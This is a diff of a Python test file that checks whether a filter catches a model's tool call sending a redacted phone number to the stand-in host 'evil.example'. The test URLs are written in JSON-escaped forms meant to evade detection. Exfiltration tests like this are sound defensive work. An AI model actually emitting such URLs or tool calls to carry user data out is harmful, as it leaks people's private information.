@@ -216,7 +216,7 @@ def test_no_address_of_the_models_carries_a_value_out(house: House, text: str) -
 @pytest.mark.parametrize("stream", [False, True])
 def test_an_address_is_noticed_however_json_writes_it(house: House, stream: bool) -> None:  # noqa: FBT001
     for written in (r"https:\/\/evil.example\/?q=[PHONE_1]", r"https:\u002f\u002Fevil.example\u002f[PHONE_1]"):
-        house.say(Spoken(None, [("find_slots", '{"url": "%s"}' % written)], finish="tool_calls"))
+        house.say(Spoken(None, [("find_slots", f'{{"url": "{written}"}}')], finish="tool_calls"))
         answer = house.chat(user("call 512-555-0100"), tools=[tool()], stream=stream)
         assert "555-0100" not in answer.text
         assert "content_filter" in answer.text
